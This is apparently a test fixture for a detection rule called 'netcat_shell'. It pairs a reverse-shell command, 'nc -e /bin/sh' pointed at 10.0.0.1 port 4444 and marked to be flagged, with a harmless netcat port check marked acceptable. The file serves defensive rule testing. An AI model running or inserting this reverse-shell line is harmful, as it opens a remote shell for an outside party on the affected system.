# ruleid: netcat_shell
nc -e /bin/sh 10.0.0.1 4444
# ok: netcat_shell
nc -z localhost 5432
